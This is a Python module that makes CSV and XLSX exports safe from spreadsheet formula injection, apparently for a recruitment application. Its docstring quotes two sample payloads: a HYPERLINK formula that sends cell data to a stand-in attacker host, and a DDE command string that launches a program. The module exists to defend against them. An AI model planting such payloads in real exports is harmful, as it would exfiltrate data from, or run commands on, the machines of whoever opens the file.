"""Tables for download (CSV, XLSX) whose cells are safe to open in a spreadsheet.

Text typed by a candidate ends up in exports: a name like `=HYPERLINK("http://evil.example?"&A1,"CV")` or
`@SUM(1+1)*cmd|'/C calc'!A0` would run as a formula in Excel or LibreOffice (CSV injection). Every export
goes through this module, which writes such text as text: with a leading apostrophe in CSV (the OWASP
advice), and as a string cell marked "quote prefix" in XLSX (Excel's own marking for text typed as '=...).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# What makes a spreadsheet read a cell as a formula (OWASP: = + - @ tab CR), and the full-width forms
# some input methods type.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# A signed number ("-5", "+62812...") is only ever a number, never a formula: it is left as it is.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")
XLSX_MAX_CELL_CHARS = 32_767  # Excel's limit; a longer text would be cut by Excel anyway

Cell = str | int | float | Decimal | bool | date | datetime | None


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)


def cell_neutralise(value: object) -> object:
    """A CSV cell that no spreadsheet runs: formula-like text gets a leading apostrophe."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


def csv_export(*, headers: Sequence[str], rows: Iterable[Sequence[Cell]], delimiter: str = ",") -> bytes:
    """UTF-8 with a byte-order mark (without it Excel reads UTF-8 as Windows-1252) and CRLF line ends.

    Excel set to Indonesian expects ";" between values (the decimal separator is ","); pass
    `delimiter=";"` for such users, or offer XLSX, which has no such question.
    """
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([cell_neutralise(_csv_text(header)) for header in headers])
    for row in rows:
        writer.writerow([cell_neutralise(_csv_text(value)) for value in row])
    return "\ufeff".encode() + out.getvalue().encode("utf-8")


def xlsx_export(*, headers: Sequence[str], rows: Iterable[Sequence[Cell]], title: str = "Rekrut") -> bytes:
    """One sheet, written as a stream (a large export does not sit in memory as cell objects)."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_sheet_title(title))
    sheet.append([_xlsx_cell(sheet, header) for header in headers])
    for row in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _csv_text(value: object) -> object:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return timezone.localtime(value).strftime("%Y-%m-%d %H:%M") if timezone.is_aware(value) else value
    return value


def _xlsx_cell(sheet: WriteOnlyWorksheet, value: object) -> object:
    if isinstance(value, datetime) and timezone.is_aware(value):
        return timezone.make_naive(value)  # XLSX has no time zones: the company's local time
    if not isinstance(value, str):
        return value
    # Control characters are not allowed in the file format; openpyxl would refuse the whole export.
    text = ILLEGAL_CHARACTERS_RE.sub("", value)[:XLSX_MAX_CELL_CHARS]
    if not text:
        return None  # an empty cell, not an empty text
    cell = WriteOnlyCell(sheet, value=text)
    if looks_like_formula(value):
        cell.data_type = "s"  # openpyxl would otherwise store text starting with "=" as a formula
        cell.quotePrefix = True
    return cell


def _sheet_title(title: str) -> str:
    # Excel's rules for sheet names: at most 31 characters, none of []:*?/\
    return re.sub(r"[\[\]:*?/\\]", " ", title)[:31] or "Rekrut"
